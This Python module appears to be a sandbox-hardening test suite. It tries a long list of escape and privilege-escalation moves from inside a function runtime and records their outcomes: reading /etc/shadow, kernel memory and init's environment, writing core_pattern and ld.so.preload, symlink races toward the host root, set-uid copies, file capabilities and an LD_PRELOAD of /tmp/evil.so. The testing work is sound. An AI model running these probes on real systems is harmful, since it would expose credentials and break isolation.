"""Files: leaks of /proc and /sys, code of others and of the host, links out, devices, set-uid programs."""

from __future__ import annotations

import ctypes
import glob
import mmap
import os
import shutil
import subprocess
import threading
from typing import Any

from hostile.attempts import INHERITED, attempt, call, outcome

_SECRET_PLACES = (
    "/proc/interrupts", "/proc/kcore", "/proc/kallsyms",
    "/proc/sysrq-trigger", "/proc/keys", "/proc/key-users", "/proc/timer_list",
    "/proc/scsi/scsi", "/proc/sched_debug", "/proc/latency_stats", "/proc/kmsg", "/proc/kpagecount",
    "/proc/kpageflags", "/proc/vmallocinfo", "/proc/slabinfo", "/proc/pagetypeinfo", "/proc/cmdline", "/proc/acpi",
    "/proc/asound", "/proc/1/root/etc/shadow", "/proc/1/cwd", "/proc/1/environ", "/proc/1/mem", "/proc/1/maps",
    "/proc/1/exe", "/proc/1/fd", "/proc/1/map_files", "/proc/1/stack", "/proc/1/syscall", "/proc/1/auxv",
    "/proc/1/pagemap", "/proc/1/personality", "/proc/1/io", "/proc/1/ns/net", "/proc/1/task/1/environ",
    "/proc/self/stack", "/sys/kernel", "/sys/fs/cgroup", "/sys/firmware", "/sys/class/net", "/sys/module",
    "/sys/kernel/debug", "/sys/kernel/security", "/sys/devices", "/dev/mem", "/dev/kmem", "/dev/kmsg", "/dev/port",
    "/dev/kvm", "/dev/fuse", "/dev/net/tun", "/dev/loop-control", "/dev/loop0", "/dev/sda", "/dev/vda", "/dev/tty",
    "/dev/console", "/dev/ptmx", "/dev/pts", "/dev/mqueue", "/dev/hugepages", "/dev/input", "/dev/vhost-net",
    "/etc/shadow", "/etc/sudoers", "/etc/ssh", "/etc/machine-id", "/root", "/home", "/boot", "/var/lib", "/var/log",
    "/var/run/docker.sock", "/run/docker.sock", "/run/systemd", "/.old", "/srv", "/media", "/tmp/../../etc/shadow",
)  # fmt: skip
_WRITES = (
    "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sys/kernel/modprobe",
    "/proc/sys/kernel/randomize_va_space", "/proc/sys/vm/drop_caches", "/proc/sys/vm/overcommit_memory",
    "/proc/sys/fs/inotify/max_user_instances", "/proc/sys/fs/file-max", "/proc/sys/net/ipv4/ip_forward",
    "/proc/sys/user/max_user_namespaces", "/proc/sys/kernel/ns_last_pid", "/proc/sysrq-trigger",
    "/proc/1/oom_score_adj", "/proc/self/uid_map", "/proc/self/gid_map", "/proc/self/setgroups", "/proc/1/comm",
    "/proc/self/loginuid", "/proc/self/sessionid", "/proc/self/attr/current", "/proc/mtrr", "/proc/bus/pci/00/00.0",
    "/proc/irq/default_smp_affinity", "/proc/fs/nfsd/threads", "/etc/passwd", "/etc/hosts", "/etc/resolv.conf",
    "/etc/ld.so.preload", "/etc/ld.so.cache", "/etc/mtab", "/usr/bin/env", "/usr/bin/new", "/usr/lib/new.so",
    "/usr/local/bin/new", "/lib/new", "/bin/sh", "/opt/new", "/var/task/new", "/var/task/hostile/__init__.py",
    "/var/runtime/new", "/var/runtime/bootstrap.py", "/var/lang/new", "/new", "/run/new", "/mnt/new", "/sys/new",
    "/dev/new", "/var/tmp/new",
)  # fmt: skip


def _look(path: str) -> Any:
    if os.path.isdir(path):
        return sorted(os.listdir(path))[:3]
    with open(path, "rb", buffering=0) as file:
        return len(file.read(64) or b"")


def _named(name: str, function: Any) -> None:
    function.__name__ = name
    function.__module__ = __name__
    attempt(function)


for _path in _SECRET_PLACES:
    _named(f"read {_path}", lambda event, path=_path: _look(path))
for _path in _WRITES:
    _named(f"write {_path}", lambda event, path=_path: os.write(os.open(path, os.O_WRONLY | os.O_CREAT, 0o666), b"1"))


@attempt
def kernel_addresses(event: dict[str, Any]) -> Any:
    """Of symbols: all zero, where they can be read at all."""
    if not os.path.exists("/proc/kallsyms"):
        return []
    with open("/proc/kallsyms") as file:
        return [line for _, line in zip(range(2000), file, strict=False) if int(line.split()[0], 16)][:3]


@attempt
def processes_seen(event: dict[str, Any]) -> Any:
    return sorted({open(f"/proc/{pid}/comm").read().strip() for pid in os.listdir("/proc") if pid.isdigit()})


@attempt
def own_environment_cgroup(event: dict[str, Any]) -> Any:
    with open("/proc/self/cgroup") as file:
        return sorted({line.strip().rpartition(":")[2] for line in file})


@attempt
def code_by_open_directory(event: dict[str, Any]) -> Any:
    """`..` of the root, by every way to say it, is the root."""
    root = os.open("/", os.O_PATH)
    for path in ("..", "../..", "../../proc/1/root"):
        step = outcome(lambda path=path: os.stat(path, dir_fd=root).st_ino)  # type: ignore[misc]
        if step not in (os.stat("/").st_ino, "EACCES", "EPERM"):
            return [path, step]
    return "root"


@attempt
def descriptors_inherited(event: dict[str, Any]) -> Any:
    return sorted({link.split(":")[0] if not link.startswith("/proc/") else "own" for link in INHERITED} - {"own"})


@attempt
def descriptors_of_init(event: dict[str, Any]) -> Any:
    """Wherever they can be listed or guessed."""
    paths = [f"/proc/1/{where}/{number}" for where in ("fd", "task/1/fd") for number in range(64)]
    ways = (os.readlink, os.stat, lambda path: os.open(path, os.O_PATH), lambda path: os.open(path, os.O_RDWR))
    return sorted({str(outcome(lambda way=way, path=path: way(path))) for path in paths for way in ways})  # type: ignore[misc]


@attempt
def hard_link_of_a_program(event: dict[str, Any]) -> Any:
    return os.link("/usr/bin/env", "/tmp/env")


@attempt
def hard_link_of_code(event: dict[str, Any]) -> Any:
    return os.link("/var/task/hostile/__init__.py", "/tmp/code.py")


@attempt
def hard_link_into_code(event: dict[str, Any]) -> Any:
    open("/tmp/mine", "w").close()
    return os.link("/tmp/mine", "/var/task/mine")


@attempt
def rename_code(event: dict[str, Any]) -> Any:
    return os.rename("/var/task/hostile", "/var/task/gone")


@attempt
def remove_code(event: dict[str, Any]) -> Any:
    return os.unlink("/var/task/hostile/kernel.py")


@attempt
def change_mode_of_code(event: dict[str, Any]) -> Any:
    return os.chmod("/var/task/hostile/kernel.py", 0o777)


@attempt
def change_owner_of_code(event: dict[str, Any]) -> Any:
    return os.chown("/var/task/hostile/kernel.py", os.getuid(), os.getgid())


@attempt
def change_times_of_a_device(event: dict[str, Any]) -> Any:
    return os.utime("/dev/null", (0, 0))


@attempt
def truncate_the_interpreter(event: dict[str, Any]) -> Any:
    return os.truncate(os.path.realpath("/proc/self/exe"), 0)


@attempt
def overwrite_own_program(event: dict[str, Any]) -> Any:
    return os.open("/proc/self/exe", os.O_WRONLY)


@attempt
def overwrite_program_of_init(event: dict[str, Any]) -> Any:
    return os.open("/proc/1/exe", os.O_WRONLY)


@attempt
def unnamed_file_in_code(event: dict[str, Any]) -> Any:
    return os.open("/var/task", os.O_TMPFILE | os.O_RDWR, 0o600)


@attempt
def symbolic_link_to_the_host(event: dict[str, Any]) -> Any:
    if os.path.lexists("/tmp/link"):
        os.unlink("/tmp/link")
    os.symlink(event["host_secret"], "/tmp/link")
    return open("/tmp/link").read()


@attempt
def symbolic_link_up(event: dict[str, Any]) -> Any:
    if not os.path.lexists("/tmp/up"):
        os.symlink("/../../../../..", "/tmp/up")
    return "root" if os.stat("/tmp/up").st_ino == os.stat("/").st_ino else "elsewhere"


@attempt
def race_of_links(event: dict[str, Any]) -> Any:
    """A directory that is a link half of the time, while its content is opened and code is listed."""
    os.makedirs("/tmp/race/a", exist_ok=True)
    stop = threading.Event()

    def swap() -> None:
        while not stop.is_set():
            outcome(lambda: os.rename("/tmp/race/a", "/tmp/race/b"))
            outcome(lambda: os.symlink("/proc/1/root", "/tmp/race/a"))
            outcome(lambda: os.unlink("/tmp/race/a"))
            outcome(lambda: os.rename("/tmp/race/b", "/tmp/race/a"))

    thread = threading.Thread(target=swap)
    thread.start()
    got = {str(outcome(lambda: open("/tmp/race/a/etc/shadow").read())) for _ in range(500)}
    stop.set()
    thread.join()
    return sorted(got - {"EACCES", "ENOENT", "EPERM"})


@attempt
def set_uid_programs(event: dict[str, Any]) -> Any:
    """Run those that the host has, and one of our own."""
    shutil.copy("/usr/bin/id", "/tmp/id")
    outcome(lambda: os.chmod("/tmp/id", 0o6755))
    said = subprocess.run(["/tmp/id", "-u"], capture_output=True, text=True, check=False).stdout.strip()
    effective = [said]
    for path in glob.glob("/usr/bin/*"):
        if os.stat(path).st_mode & 0o4000 and os.path.basename(path) in ("su", "sudo", "pkexec", "newgrp"):
            command = [path, "-c", "id -u"] if path.endswith("su") else [path]
            done = subprocess.run(command, capture_output=True, text=True, check=False, stdin=subprocess.DEVNULL)
            effective.append(done.stdout.strip())
    return [
        os.statvfs("/usr").f_flag & 2,
        os.statvfs("/tmp").f_flag & 2,
        sorted({text for text in effective if text.isdigit()}),
    ]


@attempt
def file_capabilities(event: dict[str, Any]) -> Any:
    open("/tmp/capable", "w").close()
    return os.setxattr("/tmp/capable", "security.capability", b"\x01\x00\x00\x02" + bytes(16))


@attempt
def trusted_attribute(event: dict[str, Any]) -> Any:
    open("/tmp/trusted", "w").close()
    return os.setxattr("/tmp/trusted", "trusted.overlay.opaque", b"y")


@attempt
def lower_oom_score(event: dict[str, Any]) -> Any:
    with open("/proc/self/oom_score_adj", "r+") as file:
        file.write("-1")
        file.flush()
    return "lowered"


@attempt
def attributes_of_code(event: dict[str, Any]) -> Any:
    flags = ctypes.c_int(0x10)  # FS_IMMUTABLE_FL
    return call(16, 29, os.open("/var/task/hostile/kernel.py", 0), 0x40086602, ctypes.byref(flags))


@attempt
def lease_on_a_library(event: dict[str, Any]) -> Any:
    """A lease would make others wait who write."""
    return call(72, 25, os.open("/usr/bin/env", 0), 1024, 0)


@attempt
def lease_on_code(event: dict[str, Any]) -> Any:
    """Only the owner of a file gets one: who runs the server, if that is who we are outside."""
    paths = (
        "/var/task/hostile/kernel.py",
        os.path.realpath("/proc/self/exe"),
        os.__file__,
        os.path.realpath("/bin/sh"),
    )
    kinds = (0, 1)  # against writers, against everybody
    return [call(72, 25, os.open(path, 0), 1024, kind) for path in paths for kind in kinds]


@attempt
def open_code_again(event: dict[str, Any]) -> Any:
    """By its descriptor, with more rights."""
    return os.open(f"/proc/self/fd/{os.open('/var/task/hostile/kernel.py', 0)}", os.O_RDWR)


@attempt
def map_code_to_write(event: dict[str, Any]) -> Any:
    return mmap.mmap(os.open("/var/task/hostile/kernel.py", 0), 0, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)


@attempt
def times_of_code(event: dict[str, Any]) -> Any:
    return os.utime("/var/task/hostile/kernel.py", (0, 0))


@attempt
def extended_attribute_of_code(event: dict[str, Any]) -> Any:
    return os.setxattr("/var/task/hostile/kernel.py", "user.mine", b"1")


@attempt
def files_of_the_server(event: dict[str, Any]) -> Any:
    """Of the user who runs it: keys, the data directory; by every name of the root."""
    roots = ("", "/proc/self/root", "/proc/1/root", "/proc/self/cwd/../..", "/tmp/../..", "/dev/fd/../../../..")
    paths = [root + path for path in event["server_files"] for root in roots]
    return sorted({str(outcome(lambda path=path: _look(path))) for path in paths})  # type: ignore[misc]


@attempt
def write_lock_on_code(event: dict[str, Any]) -> Any:
    """POSIX locks for writing need a descriptor for writing."""
    lock = bytes([1, 0]) + bytes(30)
    return call(72, 25, os.open("/var/task/hostile/kernel.py", 0), 6, lock)


@attempt
def preload_by_environment(event: dict[str, Any]) -> Any:
    """A set-uid or not: the loader of init and of other environments reads no variable of ours."""
    os.environ["LD_PRELOAD"] = "/tmp/evil.so"
    done = subprocess.run(["/usr/bin/id", "-u"], capture_output=True, text=True, check=False)
    del os.environ["LD_PRELOAD"]
    return done.stdout.strip()
